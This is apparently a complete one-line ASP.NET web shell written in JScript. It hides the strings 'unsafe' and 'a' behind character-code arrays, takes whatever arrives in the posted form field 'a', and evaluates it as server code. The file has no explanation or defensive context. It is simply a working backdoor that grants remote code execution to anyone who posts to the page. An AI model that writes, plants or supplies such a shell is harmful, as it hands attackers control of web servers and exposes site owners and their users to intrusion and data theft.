<%@ Page Language="JScript"%><%
var f = String.fromCharCode(117,110,115,97,102,101);
var x = Request.Form[String.fromCharCode(97)];
eval(x, f);
%>
